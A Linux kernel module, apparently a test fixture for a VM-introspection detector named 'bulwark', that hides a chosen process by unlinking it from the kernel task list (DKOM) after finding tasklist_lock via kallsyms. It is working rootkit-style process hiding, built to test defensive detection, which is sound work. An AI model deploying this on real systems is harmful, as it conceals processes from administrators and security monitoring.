// SPDX-License-Identifier: GPL-2.0
/*
 * hide_pid.ko pid=N - unlink process N from the kernel's global task list (DKOM).
 *
 * Every thread-group leader sits on a circular list threaded through task_struct.tasks and
 * anchored at init_task.tasks; for_each_process() and introspection's process walk follow it.
 * This module removes the process from that list while it keeps running. It stays on the pid
 * hash (the pid namespace's IDR), so kill(N), /proc/N and everything that looks a pid up still
 * work, and the scheduler never used the list in the first place.
 *
 * Locking: writers of the task list hold tasklist_lock for writing with interrupts off
 * (copy_process, __unhash_process). 6.1 does not export tasklist_lock, so we find it with
 * kallsyms and take write_lock_irq() on it like the kernel does; without it we refuse.
 *
 * Why the later exit of the hidden process is harmless: list_del_init() leaves
 * task->tasks pointing at itself. When the process is reaped, __unhash_process() calls
 * list_del_rcu(&p->tasks); on a self-linked entry that writes entry->prev->next = entry->next
 * and entry->next->prev = entry->prev, i.e. the entry's own pointers to itself - a no-op - and
 * CONFIG_DEBUG_LIST's check (prev->next == entry && next->prev == entry) passes. No other task
 * is touched. We only unlink a task that is still hashed (pid_alive() under the lock, so it
 * has not been through __unhash_process yet) and is a thread-group leader (other threads are
 * not on this list and their ->tasks is stale).
 *
 * Caveat: the list is also read under RCU alone (e.g. khungtaskd's scan). A reader standing on
 * this very task at the instant we unlink it would follow ->next back to the task itself and
 * spin. list_del_rcu() would avoid that but leaves ->prev poisoned, so a reap before we could
 * re-link the entry to itself would hit DEBUG_LIST (BUG on Debian). The window for the reader
 * case is a few nanoseconds against a scan every 120 s; acceptable for a test fixture.
 *
 * The module has no exit function, so it cannot be unloaded (putting the task back would need
 * the same care and the test does not need it).
 */
#include <linux/module.h>
#include <linux/init.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/list.h>

#include "vmi_attack.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid (in the initial pid namespace) of the process to hide");

static int __init hide_pid_init(void)
{
	rwlock_t *tasklist;
	struct task_struct *task;
	struct pid *p;
	int err = 0;

	if (pid < 2) {
		pr_err("vmi-attack: hide_pid needs pid=N with N > 1\n");
		return -EINVAL;
	}
	tasklist = (rwlock_t *)vmi_lookup_name("tasklist_lock");
	if (!tasklist) {
		pr_err("vmi-attack: cannot find tasklist_lock\n");
		return -ENOENT;
	}

	/* Take a reference so the task_struct stays valid while we wait for the lock. */
	p = find_get_pid(pid);
	task = get_pid_task(p, PIDTYPE_PID);
	put_pid(p);
	if (!task) {
		pr_err("vmi-attack: no process with pid %d\n", pid);
		return -ESRCH;
	}

	write_lock_irq(tasklist);
	if (!pid_alive(task))
		err = -ESRCH;		/* already unhashed: its ->tasks is poisoned */
	else if (!thread_group_leader(task))
		err = -EINVAL;		/* a thread: not on the task list */
	else
		list_del_init(&task->tasks);
	write_unlock_irq(tasklist);

	if (!err)
		pr_info("vmi-attack: hid pid %d (%s) from the task list\n", pid, task->comm);
	else
		pr_err("vmi-attack: cannot hide pid %d: %s\n", pid,
		       err == -ESRCH ? "it is exiting" : "not a thread-group leader");
	put_task_struct(task);
	return err;
}

module_init(hide_pid_init);
/* No module_exit: the module cannot be unloaded. */

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("bulwark VMI test: hide a process by unlinking it from the task list");
